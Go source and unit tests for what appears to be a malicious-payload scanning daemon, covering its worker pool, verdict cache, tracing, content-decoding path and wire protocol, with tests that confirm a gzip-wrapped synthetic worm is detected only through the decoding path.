// even when the pool has a recorder.
//
//mel:hotpath
func (p *Pool) SubmitTraced(payload []byte, deadline time.Time, tr *tracing.Trace, done func(v core.Verdict, cached bool, err error)) error {
	return p.submit(payload, deadline, tr, false, done)
}

// SubmitContent is Submit routed through the content pipeline (triage
// → decode → MEL). Fails with ErrContentDisabled when the pool was
// built without one.
//
//mel:hotpath
func (p *Pool) SubmitContent(payload []byte, deadline time.Time, done func(v core.Verdict, cached bool, err error)) error {
	return p.SubmitContentTraced(payload, deadline, p.autoTrace(len(payload)), done)
}

// SubmitContentTraced is SubmitContent with an explicit trace.
//
//mel:hotpath
func (p *Pool) SubmitContentTraced(payload []byte, deadline time.Time, tr *tracing.Trace, done func(v core.Verdict, cached bool, err error)) error {
	if p.pipe == nil {
		return ErrContentDisabled
	}
	return p.submit(payload, deadline, tr, true, done)
}

// submit is the shared non-blocking enqueue behind every Submit
// variant.
//
//mel:hotpath
func (p *Pool) submit(payload []byte, deadline time.Time, tr *tracing.Trace, isContent bool, done func(v core.Verdict, cached bool, err error)) error {
	p.mu.RLock()
	defer p.mu.RUnlock()
	if p.closed {
		p.rejectEvent(len(payload), tr, isContent, events.CauseShutdown)
		return ErrShuttingDown
	}
	p.m.depth.Inc()
	tr.StageStart(tracing.StageQueueWait)
	select {
	case p.jobs <- job{payload: payload, enqueued: time.Now(), deadline: deadline, tr: tr, content: isContent, done: done}:
		p.publishPressure()
		return nil
	default:
		p.m.depth.Dec()
		p.m.shed.Inc()
		p.rejectEvent(len(payload), tr, isContent, events.CauseShed)
		return ErrOverloaded
	}
}

// rejectEvent journals a submission that never reached a worker (shed
// or shutdown). It runs on the submit hot path: the event is built on
// the stack and handed to the journal's allocation-free record path.
//
//mel:hotpath
func (p *Pool) rejectEvent(n int, tr *tracing.Trace, isContent bool, cause events.Cause) {
	if p.journal == nil {
		return
	}
	e := events.Event{
		StartUnixNs: time.Now().UnixNano(),
		Bytes:       n,
		ViewIndex:   -1,
		Content:     isContent,
		Cause:       cause,
	}
	if tr != nil {
		e.TraceID = tr.ID
	}
	for i := range e.Stages {
		e.Stages[i] = -1
	}
	p.journal.Record(&e)
}

// jobEvent builds the wide event for a job that reached a worker,
// preferring the trace's bookkeeping when tracing is on.
func (p *Pool) jobEvent(j *job, v core.Verdict, cached bool, cause events.Cause) events.Event {
	e := events.Event{
		StartUnixNs: j.enqueued.UnixNano(),
		Total:       time.Since(j.enqueued),
		Bytes:       len(j.payload),
		ViewIndex:   -1,
		Cause:       cause,
	}
	for i := range e.Stages {
		e.Stages[i] = -1
	}
	if tr := j.tr; tr != nil {
		e.TraceID = tr.ID
		e.StartUnixNs = tr.Start.UnixNano()
		if tr.Total() > 0 {
			e.Total = tr.Total()
		}
		for s := tracing.Stage(0); int(s) < tracing.NumStages; s++ {
			e.Stages[s] = tr.StageDur(s)
		}
	}
	if cause == events.CauseOK {
		e.MEL = v.MEL
		e.Threshold = v.Threshold
		e.Malicious = v.Malicious
		e.Cached = cached
		if j.content {
			e.Content = true
			e.ViewIndex = v.ViewIndex
			e.DecodeChain = v.DecodeChain
			e.TriageScore = v.TriageScore
			e.TriageCleared = v.TriageCleared
		}
	} else {
		e.Content = j.content
	}
	return e
}

// recordJobEvent journals a worker-path outcome; nil journal no-ops.
func (p *Pool) recordJobEvent(j *job, v core.Verdict, cached bool, cause events.Cause) {
	if p.journal == nil {
		return
	}
	e := p.jobEvent(j, v, cached, cause)
	p.journal.Record(&e)
}

// publishPressure feeds the queue occupancy to the content pipeline's
// load-shed policy: as the queue fills, decode depth drops before any
// scan is dropped.
//
//mel:hotpath
func (p *Pool) publishPressure() {
	if p.pipe == nil {
		return
	}
	p.pipe.SetPressure(float64(len(p.jobs)) / float64(cap(p.jobs)))
}

// autoTrace opens a fresh trace when the pool records traces, nil
// otherwise.
//
//mel:hotpath
func (p *Pool) autoTrace(n int) *tracing.Trace {
	if p.rec == nil {
		return nil
	}
	return tracing.New(tracing.TraceID{}, n)
}

// Do runs one scan through the pool and waits for the result. Unlike
// Submit it blocks for a queue slot (honouring ctx), which is the
// right behaviour for in-process callers like the proxy that own their
// own flow control. The bool reports whether the verdict came from the
// cache.
func (p *Pool) Do(ctx context.Context, payload []byte) (core.Verdict, bool, error) {
	return p.do(ctx, payload, false)
}

// DoContent is Do routed through the content pipeline; it fails with
// ErrContentDisabled when the pool was built without one.
func (p *Pool) DoContent(ctx context.Context, payload []byte) (core.Verdict, bool, error) {
	if p.pipe == nil {
		return core.Verdict{}, false, ErrContentDisabled
	}
	return p.do(ctx, payload, true)
}

// do is the blocking enqueue shared by Do and DoContent.
func (p *Pool) do(ctx context.Context, payload []byte, isContent bool) (core.Verdict, bool, error) {
	type result struct {
		v      core.Verdict
		cached bool
		err    error
	}
	ch := make(chan result, 1)
	var deadline time.Time
	if t, ok := ctx.Deadline(); ok {
		deadline = t
	}
	j := job{
		payload:  payload,
		enqueued: time.Now(),
		deadline: deadline,
		tr:       p.autoTrace(len(payload)),
		content:  isContent,
		done:     func(v core.Verdict, cached bool, err error) { ch <- result{v, cached, err} },
	}
	p.mu.RLock()
	if p.closed {
		p.mu.RUnlock()
		return core.Verdict{}, false, ErrShuttingDown
	}
	p.m.depth.Inc()
	j.tr.StageStart(tracing.StageQueueWait)
	select {
	case p.jobs <- j:
		p.publishPressure()
		p.mu.RUnlock()
	case <-ctx.Done():
		p.m.depth.Dec()
		p.mu.RUnlock()
		return core.Verdict{}, false, ctx.Err()
	}
	r := <-ch
	return r.v, r.cached, r.err
}

// ScanFunc adapts the pool to the detector's scan signature, for
// core.NewStreamScannerFunc and the proxy's pooled mode.
func (p *Pool) ScanFunc() func([]byte) (core.Verdict, error) {
	return func(payload []byte) (core.Verdict, error) {
		v, _, err := p.Do(context.Background(), payload)
		return v, err
	}
}

// ScanContentFunc is ScanFunc through the content pipeline — the
// proxy's pooled content mode. Nil when the pool has no pipeline.
func (p *Pool) ScanContentFunc() func([]byte) (core.Verdict, error) {
	if p.pipe == nil {
		return nil
	}
	return func(payload []byte) (core.Verdict, error) {
		v, _, err := p.DoContent(context.Background(), payload)
		return v, err
	}
}

// Close stops accepting work, drains the queue, and waits for the
// workers to exit. Safe to call more than once.
func (p *Pool) Close() {
	p.mu.Lock()
	if p.closed {
		p.mu.Unlock()
		return
	}
	p.closed = true
	close(p.jobs)
	p.mu.Unlock()
	p.wg.Wait()
}

// worker drains the job queue.
func (p *Pool) worker() {
	defer p.wg.Done()
	for j := range p.jobs {
		p.m.depth.Dec()
		p.publishPressure()
		p.serve(j)
	}
}

// serve executes one job: deadline check, cache lookup, scan, cache
// fill, metrics. Each phase is timed onto the job's trace when tracing
// is on.
func (p *Pool) serve(j job) {
	tr := j.tr
	tr.StageEnd(tracing.StageQueueWait)
	if !j.deadline.IsZero() && time.Now().After(j.deadline) {
		p.m.deadline.Inc()
		p.abort(tr, ErrDeadlineExceeded)
		p.recordJobEvent(&j, core.Verdict{}, false, events.CauseDeadline)
		j.done(core.Verdict{}, false, ErrDeadlineExceeded)
		return
	}
	var key cacheKey
	if p.cache != nil {
		tr.StageStart(tracing.StageCache)
		key = cacheKey{sum: sha256.Sum256(j.payload), content: j.content}
		v, ok := p.cache.get(key)
		tr.StageEnd(tracing.StageCache)
		if ok {
			p.m.hits.Inc()
			if tr != nil {
				tr.SetCached(true)
				tr.SetVerdict(v.MEL, v.Threshold, v.Malicious)
				if j.content {
					tr.SetContent(v.ViewIndex, v.DecodeChain, v.TriageScore, v.TriageCleared)
				}
				v.TraceID = tr.ID
			}
			p.finish(j, v, true)
			return
		}
		p.m.misses.Inc()
	}
	var v core.Verdict
	var err error
	if j.content {
		v, err = p.pipe.ScanTraced(j.payload, tr)
	} else {
		v, err = p.det.ScanTraced(j.payload, tr)
	}
	if err != nil {
		p.m.errs.Inc()
		wrapped := fmt.Errorf("%w: %v", ErrScanFailed, err)
		p.abort(tr, wrapped)
		p.recordJobEvent(&j, core.Verdict{}, false, events.CauseScanError)
		j.done(core.Verdict{}, false, wrapped)
		return
	}
	if p.cache != nil {
		// The cached copy must not leak this request's trace id into
		// future hits; each hit stamps its own.
		cv := v
		cv.TraceID = tracing.TraceID{}
		p.cache.put(key, cv)
	}
	p.finish(j, v, false)
}

// abort completes and records a trace for a failed request.
func (p *Pool) abort(tr *tracing.Trace, err error) {
	if tr == nil {
		return
	}
	tr.SetError(err.Error())
	tr.Finish()
	p.rec.Record(tr)
}

// finish records a served verdict and delivers it. The trace is
// finished and recorded (and its id attached to the latency histogram
// as an exemplar) before done runs, so a client that immediately
// queries /debug/traces sees its own request.
func (p *Pool) finish(j job, v core.Verdict, cached bool) {
	p.m.scans.Inc()
	p.m.bytes.Add(uint64(len(j.payload)))
	if v.Malicious {
		p.m.malicious.Inc()
	} else {
		p.m.benign.Inc()
	}
	lat := time.Since(j.enqueued).Seconds()
	if j.tr != nil {
		j.tr.Finish()
		p.rec.Record(j.tr)
		p.m.latency.ObserveExemplar(lat, j.tr.ID.String())
	} else {
		p.m.latency.Observe(lat)
	}
	if p.onVerdict != nil {
		p.onVerdict(v)
	}
	p.recordJobEvent(&j, v, cached, events.CauseOK)
	j.done(v, cached, nil)
}

// Queue reports the job queue's current depth and capacity — the
// overload signal behind the /debug/health endpoint.
func (p *Pool) Queue() (depth, capacity int) {
	return len(p.jobs), cap(p.jobs)
}

// InstrumentDetector wires a detector's observer hook into reg under
// the detector_* names, separating raw pseudo-execution cost
// (detector_scan_seconds) from the pool's end-to-end request latency
// (scan_latency_seconds, queue wait included). ScanBatch and stream
// scanners over the same detector report through the same hook.
func InstrumentDetector(d *core.Detector, reg *telemetry.Registry) {
	scans := reg.Counter("detector_scans_total", "raw detector scans (cache misses and direct calls)")
	errs := reg.Counter("detector_errors_total", "raw detector scan failures")
	bytes := reg.Counter("detector_bytes_total", "bytes pseudo-executed")
	lat := reg.Histogram("detector_scan_seconds", "pseudo-execution latency", nil)
	d.SetObserver(func(s core.ScanStats) {
		scans.Inc()
		bytes.Add(uint64(s.Bytes))
		lat.Observe(s.Elapsed.Seconds())
		if s.Err != nil {
			errs.Inc()
		}
	})
}

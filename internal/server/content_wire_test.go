package server

import (
	"bytes"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/telemetry/tracing"
)

// contentVerdict returns a representative content-pipeline verdict.
func contentVerdict() core.Verdict {
	return core.Verdict{
		Malicious:   true,
		MEL:         87,
		BestStart:   1024,
		Threshold:   43.7,
		ViewIndex:   2,
		DecodeChain: "gzip>base64",
		TriageScore: 0.91,
	}
}

// TestVerdictContentRoundTrip: the content extension — view index,
// triage score, decode chain, cleared flag — survives the wire.
func TestVerdictContentRoundTrip(t *testing.T) {
	for _, want := range []core.Verdict{
		contentVerdict(),
		{TriageCleared: true, TriageScore: 0.18}, // cleared benign: no MEL pass ran
		{MEL: 12, Threshold: 43.7, TriageScore: 0.55},
	} {
		var buf bytes.Buffer
		buf.Write(appendVerdictContent(nil, 11, want, false))
		typ, id, payload, err := ReadFrame(&buf, 1<<20)
		if err != nil {
			t.Fatal(err)
		}
		if typ != MsgVerdictContent || id != 11 {
			t.Fatalf("frame header = (0x%02x, %d)", typ, id)
		}
		got, cached, err := DecodeVerdictContent(payload)
		if err != nil {
			t.Fatal(err)
		}
		if cached {
			t.Fatal("spurious cached flag")
		}
		if got.Malicious != want.Malicious || got.MEL != want.MEL ||
			got.BestStart != want.BestStart || got.Threshold != want.Threshold {
			t.Fatalf("verdict = %+v, want %+v", got, want)
		}
		if got.ViewIndex != want.ViewIndex || got.DecodeChain != want.DecodeChain ||
			got.TriageScore != want.TriageScore || got.TriageCleared != want.TriageCleared {
			t.Fatalf("content fields = %+v, want %+v", got, want)
		}
	}
}

// TestVerdictContentTracedRoundTrip: the traced form carries the
// content extension and the trace echo together.
func TestVerdictContentTracedRoundTrip(t *testing.T) {
	want := contentVerdict()
	tr := tracing.New(tracing.NewID(), 4096)
	tr.StageStart(tracing.StageTriage)
	tr.StageEnd(tracing.StageTriage)
	tr.StageStart(tracing.StageContentDecode)
	tr.StageEnd(tracing.StageContentDecode)
	tr.Finish()

	var buf bytes.Buffer
	buf.Write(appendVerdictContentTraced(nil, 12, want, true, tr))
	typ, _, payload, err := ReadFrame(&buf, 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	if typ != MsgVerdictContentTraced {
		t.Fatalf("frame type = 0x%02x", typ)
	}
	got, cached, wt, err := DecodeVerdictContentTraced(payload)
	if err != nil {
		t.Fatal(err)
	}
	if !cached {
		t.Fatal("cached flag lost")
	}
	if got.DecodeChain != want.DecodeChain || got.ViewIndex != want.ViewIndex {
		t.Fatalf("content fields = %+v, want %+v", got, want)
	}
	if wt.ID != tr.ID || wt.Total != tr.Total() {
		t.Fatalf("trace echo id/total mismatch")
	}
	for _, s := range []tracing.Stage{tracing.StageTriage, tracing.StageContentDecode} {
		if wt.Stages[s] != tr.StageDur(s) {
			t.Fatalf("stage %s = %v, want %v", s, wt.Stages[s], tr.StageDur(s))
		}
	}
	for _, s := range []tracing.Stage{tracing.StageQueueWait, tracing.StageDP} {
		if wt.Stages[s] != time.Duration(-1) {
			t.Fatalf("unclosed stage %s = %v, want -1", s, wt.Stages[s])
		}
	}
	if got.TraceID != tr.ID {
		t.Fatal("verdict did not adopt the echoed trace id")
	}
}

// TestVerdictContentRejectsMalformed: truncated or trailing bytes in
// the content extension are rejected, not silently accepted.
func TestVerdictContentRejectsMalformed(t *testing.T) {
	var buf bytes.Buffer
	buf.Write(appendVerdictContent(nil, 13, contentVerdict(), false))
	_, _, payload, err := ReadFrame(&buf, 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	for cut := 1; cut < len(payload)-verdictLen; cut++ {
		if _, _, err := DecodeVerdictContent(payload[:len(payload)-cut]); err == nil {
			t.Fatalf("truncation by %d accepted", cut)
		}
	}
	if _, _, err := DecodeVerdictContent(append(payload, 0)); err == nil {
		t.Fatal("trailing byte accepted")
	}
}

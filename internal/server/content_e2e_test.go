package server_test

import (
	"testing"

	"repro/internal/content"
	"repro/internal/core"
	"repro/internal/server"
	"repro/internal/server/client"
	"repro/internal/telemetry/tracing"
)

// contentServer starts a daemon with the content pipeline enabled
// around its own detector.
func contentServer(t *testing.T, cfg server.Config) (*server.Server, string) {
	t.Helper()
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	pipe, err := content.NewPipeline(det.ScanTraced, content.PipelineConfig{})
	if err != nil {
		t.Fatal(err)
	}
	cfg.Detector = det
	cfg.Content = pipe
	return startServer(t, cfg)
}

// gzWorm returns a worm window hidden behind a gzip layer — bytes that
// scan clean raw (the worm is binary-compressed away) but carry a
// flaggable worm once decoded.
func gzWorm(t *testing.T, seed uint64) []byte {
	t.Helper()
	return content.EncodeGzip(wormPayload(t, seed))
}

// TestContentScanEndToEnd is the acceptance path: a gzip-wrapped worm
// that a plain scan passes is detected through the daemon's content
// path, with the decode chain visible in the verdict.
func TestContentScanEndToEnd(t *testing.T) {
	_, addr := contentServer(t, server.Config{})
	plain, err := client.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer plain.Close()
	cc, err := client.Dial(addr, client.WithContent())
	if err != nil {
		t.Fatal(err)
	}
	defer cc.Close()

	wrapped := gzWorm(t, 20)
	raw, err := plain.Scan(wrapped)
	if err != nil {
		t.Fatal(err)
	}
	if raw.Malicious {
		t.Fatal("premise broken: gzip-wrapped worm flagged by the plain scan")
	}
	res, err := cc.Scan(wrapped)
	if err != nil {
		t.Fatal(err)
	}
	if !res.Malicious {
		t.Fatal("gzip-wrapped worm not detected through the content path")
	}
	if res.DecodeChain != "gzip" || res.ViewIndex < 1 {
		t.Fatalf("verdict chain = %q view = %d, want gzip view >= 1", res.DecodeChain, res.ViewIndex)
	}
	if res.TriageCleared {
		t.Fatal("malicious verdict marked triage-cleared")
	}

	// A benign text payload through the same path is cleared by triage.
	benign, err := cc.Scan(benignPayloads(t, 22, 1)[0])
	if err != nil {
		t.Fatal(err)
	}
	if benign.Malicious || !benign.TriageCleared {
		t.Fatalf("benign content verdict = %+v, want triage-cleared", benign)
	}
	if benign.TriageScore >= 0.5 {
		t.Fatalf("cleared score = %.3f", benign.TriageScore)
	}
}

// TestContentScanTracedEndToEnd: the traced content path echoes the
// new pipeline stages and lands the decode chain in the flight
// recorder.
func TestContentScanTracedEndToEnd(t *testing.T) {
	rec := tracing.NewRecorder(tracing.RecorderConfig{Recent: 64, Slow: 8})
	_, addr := contentServer(t, server.Config{Recorder: rec})
	c, err := client.Dial(addr, client.WithContent(), client.WithTracing())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	res, err := c.Scan(gzWorm(t, 23))
	if err != nil {
		t.Fatal(err)
	}
	if !res.Malicious || res.DecodeChain != "gzip" {
		t.Fatalf("verdict = %+v, want malicious via gzip", res)
	}
	if res.Trace == nil {
		t.Fatal("traced content scan returned nil Trace")
	}
	for _, s := range []tracing.Stage{tracing.StageTriage, tracing.StageContentDecode} {
		if res.Trace.Stages[s] < 0 {
			t.Fatalf("stage %s not recorded", s)
		}
	}
	found := false
	for _, got := range rec.Recent(0) {
		if got.ID != res.Trace.ID {
			continue
		}
		found = true
		if got.DecodeChain != "gzip" || got.ViewIndex != res.ViewIndex {
			t.Fatalf("recorded trace chain=%q view=%d, want gzip view=%d",
				got.DecodeChain, got.ViewIndex, res.ViewIndex)
		}
	}
	if !found {
		t.Fatalf("trace %s not in flight recorder", res.Trace.ID)
	}
}

// TestContentCacheDomainSeparation: identical bytes scanned plain and
// through the content path must not alias in the verdict cache — the
// wrapped worm is benign to one and malicious to the other.
func TestContentCacheDomainSeparation(t *testing.T) {
	_, addr := contentServer(t, server.Config{})
	plain, err := client.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer plain.Close()
	cc, err := client.Dial(addr, client.WithContent())
	if err != nil {
		t.Fatal(err)
	}
	defer cc.Close()

	wrapped := gzWorm(t, 24)
	// Warm the plain-mode cache entry first, then scan the same bytes in
	// content mode: a shared key would serve the benign plain verdict.
	if v, err := plain.Scan(wrapped); err != nil || v.Malicious {
		t.Fatalf("plain scan: v=%+v err=%v", v, err)
	}
	v, err := cc.Scan(wrapped)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious {
		t.Fatal("content scan served the plain cache entry")
	}
	if v.Cached {
		t.Fatal("first content scan claims a cache hit")
	}
	// And the repeat is a content-mode cache hit with the fields intact.
	v2, err := cc.Scan(wrapped)
	if err != nil {
		t.Fatal(err)
	}
	if !v2.Cached || !v2.Malicious || v2.DecodeChain != "gzip" {
		t.Fatalf("content cache hit = %+v", v2)
	}
}

// TestContentClientDowngrade: WithContent against a server running
// without the pipeline transparently downgrades to plain scans.
func TestContentClientDowngrade(t *testing.T) {
	_, addr := startServer(t, server.Config{})
	c, err := client.Dial(addr, client.WithContent())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	for i := 0; i < 2; i++ {
		res, err := c.Scan(benignPayloads(t, 25, 1)[0])
		if err != nil {
			t.Fatalf("scan %d: %v", i, err)
		}
		if res.Malicious || res.TriageCleared || res.DecodeChain != "" {
			t.Fatalf("scan %d: downgraded verdict carries content fields: %+v", i, res)
		}
	}
}

// Race-mode hammer tests for the verdict LRU and the worker pool.
// Tier-1 runs with -race; these tests are deterministic — coordination
// is by channels and waitgroups, never sleeps.
package server

import (
	"context"
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"sync"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/corpus"
)

// TestVerdictCacheConcurrentHammer: many goroutines get/put an
// overlapping key space; the cache must stay race-free, never exceed
// capacity, and every hit must return the verdict stored for that key.
func TestVerdictCacheConcurrentHammer(t *testing.T) {
	const (
		capacity = 64
		workers  = 16
		ops      = 4000
		keySpace = 256 // > capacity, so eviction churns constantly
	)
	c := newVerdictCache(capacity)
	keyOf := func(i int) cacheKey {
		var b [8]byte
		binary.BigEndian.PutUint64(b[:], uint64(i))
		return cacheKey{sum: sha256.Sum256(b[:]), content: i%2 == 0}
	}
	var wg sync.WaitGroup
	errs := make(chan error, workers)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < ops; i++ {
				k := (w*31 + i) % keySpace
				key := keyOf(k)
				// The verdict MEL encodes the key, so a cross-key mixup is
				// detectable.
				if v, ok := c.get(key); ok && v.MEL != k {
					errs <- errors.New("cache returned another key's verdict")
					return
				}
				c.put(key, core.Verdict{MEL: k, Threshold: float64(k)})
			}
		}(w)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
	if got := c.len(); got > capacity {
		t.Fatalf("cache holds %d entries, capacity %d", got, capacity)
	}
	// Post-hammer sanity: a fresh put is retrievable.
	k := keyOf(keySpace + 1)
	c.put(k, core.Verdict{MEL: 7})
	if v, ok := c.get(k); !ok || v.MEL != 7 {
		t.Fatalf("get after hammer = (%+v, %v)", v, ok)
	}
}

// TestPoolConcurrentHammer: goroutines hammer Submit and Do against a
// small pool; every call must resolve to exactly one of {verdict,
// ErrOverloaded, ErrShuttingDown} with nothing lost or hung.
func TestPoolConcurrentHammer(t *testing.T) {
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	cases, err := corpus.Dataset(21, 4, 512)
	if err != nil {
		t.Fatal(err)
	}
	pool, err := NewPool(PoolConfig{Detector: det, Workers: 4, QueueDepth: 4, CacheSize: 8})
	if err != nil {
		t.Fatal(err)
	}

	const (
		workers = 16
		ops     = 50
	)
	var wg sync.WaitGroup
	var mu sync.Mutex
	counts := map[string]int{}
	errs := make(chan error, workers)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < ops; i++ {
				p := cases[(w+i)%len(cases)].Data
				if i%2 == 0 {
					// Blocking path.
					v, _, err := pool.Do(context.Background(), p)
					if err != nil {
						errs <- err
						return
					}
					if v.Threshold <= 0 {
						errs <- errors.New("implausible verdict from Do")
						return
					}
					mu.Lock()
					counts["do"]++
					mu.Unlock()
					continue
				}
				// Shedding path: both outcomes are legal; anything else is
				// a bug.
				done := make(chan error, 1)
				err := pool.Submit(p, time.Time{}, func(_ core.Verdict, _ bool, err error) { done <- err })
				switch {
				case err == nil:
					if serveErr := <-done; serveErr != nil {
						errs <- serveErr
						return
					}
					mu.Lock()
					counts["submitted"]++
					mu.Unlock()
				case errors.Is(err, ErrOverloaded):
					mu.Lock()
					counts["shed"]++
					mu.Unlock()
				default:
					errs <- err
					return
				}
			}
		}(w)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
	pool.Close()

	mu.Lock()
	defer mu.Unlock()
	total := counts["do"] + counts["submitted"] + counts["shed"]
	if total != workers*ops {
		t.Fatalf("accounted %d ops (%v), want %d", total, counts, workers*ops)
	}
	if counts["do"] != workers*ops/2 {
		t.Fatalf("Do path completed %d, want %d", counts["do"], workers*ops/2)
	}
	reg := pool.Metrics()
	if depth, ok := reg.Value("queue_depth"); !ok || depth != 0 {
		t.Fatalf("queue_depth after drain = %v", depth)
	}
	scans, _ := reg.Value("scans_total")
	if int(scans) != counts["do"]+counts["submitted"] {
		t.Fatalf("scans_total = %v, want %d", scans, counts["do"]+counts["submitted"])
	}
}

// TestPoolShedIsDeterministic: with the lone worker pinned inside a
// delivery callback and the one-slot queue filled, the next submission
// MUST shed — no timing involved.
func TestPoolShedIsDeterministic(t *testing.T) {
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	pool, err := NewPool(PoolConfig{Detector: det, Workers: 1, QueueDepth: 1, CacheSize: -1})
	if err != nil {
		t.Fatal(err)
	}
	defer pool.Close()
	p := []byte("Plain English text, long enough to scan without fuss.")

	// Pin the worker: its done callback blocks until released.
	workerIn := make(chan struct{})
	release := make(chan struct{})
	pinnedDone := make(chan struct{})
	if err := pool.Submit(p, time.Time{}, func(core.Verdict, bool, error) {
		close(workerIn)
		<-release
		close(pinnedDone)
	}); err != nil {
		t.Fatal(err)
	}
	<-workerIn // the worker is now inside the callback, queue empty

	// Fill the single queue slot.
	queuedDone := make(chan struct{})
	if err := pool.Submit(p, time.Time{}, func(core.Verdict, bool, error) { close(queuedDone) }); err != nil {
		t.Fatal(err)
	}
	// Worker pinned + queue full: the third submission must shed, every
	// time.
	err = pool.Submit(p, time.Time{}, func(core.Verdict, bool, error) {
		t.Error("shed job must never run")
	})
	if !errors.Is(err, ErrOverloaded) {
		t.Fatalf("submit into full queue = %v, want ErrOverloaded", err)
	}
	if v, ok := pool.Metrics().Value("shed_total"); !ok || v != 1 {
		t.Fatalf("shed_total = %v, want 1", v)
	}

	close(release)
	<-pinnedDone
	<-queuedDone // queued job still served after the release
}

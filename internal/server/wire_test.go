package server

import (
	"bytes"
	"errors"
	"io"
	"testing"

	"repro/internal/core"
)

func TestFrameRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	payload := []byte("GET / HTTP/1.1\r\n")
	buf.Write(AppendScanRequest(nil, 42, payload))

	typ, id, got, err := ReadFrame(&buf, 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	if typ != MsgScan || id != 42 || !bytes.Equal(got, payload) {
		t.Fatalf("round trip = (0x%02x, %d, %q)", typ, id, got)
	}
}

func TestVerdictRoundTrip(t *testing.T) {
	want := core.Verdict{Malicious: true, MEL: 123, BestStart: 456, Threshold: 40.25, TextOnly: true}
	var buf bytes.Buffer
	buf.Write(appendVerdict(nil, 7, want, true))

	typ, id, payload, err := ReadFrame(&buf, 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	if typ != MsgVerdict || id != 7 {
		t.Fatalf("frame header = (0x%02x, %d)", typ, id)
	}
	got, cached, err := DecodeVerdict(payload)
	if err != nil {
		t.Fatal(err)
	}
	if !cached {
		t.Fatal("cached flag lost")
	}
	if got.Malicious != want.Malicious || got.MEL != want.MEL ||
		got.BestStart != want.BestStart || got.Threshold != want.Threshold ||
		got.TextOnly != want.TextOnly {
		t.Fatalf("verdict = %+v, want %+v", got, want)
	}
}

func TestErrorRoundTripAllCodes(t *testing.T) {
	wantErrs := []error{
		ErrOverloaded, ErrPayloadTooLarge, ErrDeadlineExceeded,
		ErrShuttingDown, ErrBadRequest, ErrScanFailed, ErrContentDisabled,
	}
	for _, wantErr := range wantErrs {
		var buf bytes.Buffer
		buf.Write(appendError(nil, 9, codeFor(wantErr), wantErr.Error()))
		_, _, payload, err := ReadFrame(&buf, 1<<20)
		if err != nil {
			t.Fatal(err)
		}
		code, msg, err := DecodeError(payload)
		if err != nil {
			t.Fatal(err)
		}
		if got := ErrorForCode(code, msg); !errors.Is(got, wantErr) {
			t.Fatalf("code %d rehydrated to %v, want %v", code, got, wantErr)
		}
	}
}

// TestContentDisabledRehydration: the content-disabled condition
// shares CodeBadRequest with plain bad requests and is told apart by
// its message. The rehydrated error must match both sentinels —
// ErrContentDisabled so callers can name the condition, ErrBadRequest
// so the client library's downgrade path treats a content-disabled
// server like a pre-content one.
func TestContentDisabledRehydration(t *testing.T) {
	got := ErrorForCode(codeFor(ErrContentDisabled), ErrContentDisabled.Error())
	if !errors.Is(got, ErrContentDisabled) || !errors.Is(got, ErrBadRequest) {
		t.Fatalf("rehydrated %v, want ErrContentDisabled and ErrBadRequest both matchable", got)
	}
	if got := ErrorForCode(CodeBadRequest, "malformed frame"); errors.Is(got, ErrContentDisabled) {
		t.Fatalf("plain bad request rehydrated as content-disabled: %v", got)
	}
}

func TestReadFrameRejectsOversized(t *testing.T) {
	var buf bytes.Buffer
	buf.Write(AppendScanRequest(nil, 1, make([]byte, 1000)))
	if _, _, _, err := ReadFrame(&buf, 100); !errors.Is(err, errFrameTooLarge) {
		t.Fatalf("oversized frame err = %v", err)
	}
}

func TestReadFrameRejectsShort(t *testing.T) {
	// A frame whose declared body is shorter than the header.
	buf := bytes.NewBuffer([]byte{0, 0, 0, 2, 0x01, 0x00})
	if _, _, _, err := ReadFrame(buf, 1<<20); !errors.Is(err, errShortFrame) {
		t.Fatalf("short frame err = %v", err)
	}
}

func TestReadFrameTruncated(t *testing.T) {
	full := AppendScanRequest(nil, 1, []byte("abcdef"))
	for cut := 1; cut < len(full); cut++ {
		_, _, _, err := ReadFrame(bytes.NewReader(full[:cut]), 1<<20)
		if err == nil {
			t.Fatalf("truncation at %d not detected", cut)
		}
		if cut > 4 && !errors.Is(err, io.ErrUnexpectedEOF) {
			t.Fatalf("truncation at %d: err = %v, want unexpected EOF", cut, err)
		}
	}
}

// TestCodeForErrorForCodeMutualInverse pins the protocol bijection the
// wireerrors analyzer enforces statically: encoding then decoding
// returns the original code, and decoding then encoding returns the
// original sentinel, over every wire code and every sentinel.
func TestCodeForErrorForCodeMutualInverse(t *testing.T) {
	codes := map[byte]string{
		CodeOverloaded:   "CodeOverloaded",
		CodeTooLarge:     "CodeTooLarge",
		CodeBadRequest:   "CodeBadRequest",
		CodeScanFailed:   "CodeScanFailed",
		CodeDeadline:     "CodeDeadline",
		CodeShuttingDown: "CodeShuttingDown",
	}
	for code, name := range codes {
		err := ErrorForCode(code, "")
		if got := codeFor(err); got != code {
			t.Errorf("codeFor(ErrorForCode(%s)) = %d, want %d", name, got, code)
		}
	}
	sentinels := []error{
		ErrOverloaded, ErrPayloadTooLarge, ErrDeadlineExceeded,
		ErrShuttingDown, ErrBadRequest, ErrScanFailed,
	}
	for _, sentinel := range sentinels {
		if got := ErrorForCode(codeFor(sentinel), ""); !errors.Is(got, sentinel) {
			t.Errorf("ErrorForCode(codeFor(%v)) = %v, want the sentinel back", sentinel, got)
		}
	}
	// The six codes are distinct; a collision would make the maps above
	// lie silently.
	if len(codes) != 6 {
		t.Fatalf("wire codes collide: %d distinct of 6", len(codes))
	}

